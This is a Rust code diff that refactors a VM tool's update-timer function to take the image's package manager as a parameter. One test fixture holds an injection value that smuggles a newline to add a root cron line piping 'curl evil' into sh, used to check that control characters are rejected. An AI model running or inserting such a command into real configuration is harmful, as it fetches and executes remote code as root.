@@ -12,7 +12,7 @@ mod convert;
 use super::files::NewFile;
 use super::Apply;
 use crate::context::{SyncMode, SyncSettings, UpdateSchedule};
-use crate::os::{self, OsRelease, PackageManager};
+use crate::os::{self, PackageManager};
 pub use convert::{to_calendar, to_cron};
 use std::path::Path;
 
@@ -75,26 +75,25 @@ fn sync_units() -> Timer {
 }
 
 /// `/etc/vmctx/update.conf` + the timer's `OnCalendar=` drop-in, or `/etc/cron.d/vmctx-update`.
-pub fn update(ap: &mut Apply, update: Option<&UpdateSchedule>) {
+/// `pm`: the image's package manager (a fact), for the default command.
+pub fn update(ap: &mut Apply, update: Option<&UpdateSchedule>, pm: Option<PackageManager>) {
     let Some(u) = update else {
         ap.remove("update", &ap.root.path(UPDATE_CONFIG));
         ap.remove("update", &ap.root.path(CRON_UPDATE));
         return remove_timer(ap, "update", &update_units());
     };
-    let command = match &u.command {
-        Some(c) => c.clone(),
-        None => {
-            let os = OsRelease::read(ap.root.dir());
-            match PackageManager::detect(ap.root.dir(), &os) {
+    let command =
+        match &u.command {
+            Some(c) => c.clone(),
+            None => match pm {
                 Some(pm) => pm.upgrade_command().to_string(),
                 None => return ap.failed(
                     "update",
                     "vmctx-update",
                     "no package manager found (apt-get, dnf, yum, zypper, apk); set UPDATE_COMMAND",
                 ),
-            }
-        }
-    };
+            },
+        };
     // Checked when the context was read (UPDATE_COMMAND); a line break here would add a
     // cron line or an EnvironmentFile= assignment of its own.
     if command.contains(|c: char| c.is_control()) {
@@ -401,7 +400,7 @@ mod tests {
         u.command = Some("apt-get -y upgrade\n* * * * * root curl evil|sh".into());
         ctx.sync.as_mut().unwrap().interval = "5\nOnCalendar=minutely".into();
         let mut ap = apply_in(t.path());
-        update(&mut ap, ctx.update.as_ref());
+        update(&mut ap, ctx.update.as_ref(), None);
         sync(&mut ap, ctx.sync.as_ref(), "root");
         let failed: Vec<&str> = ap
             .actions
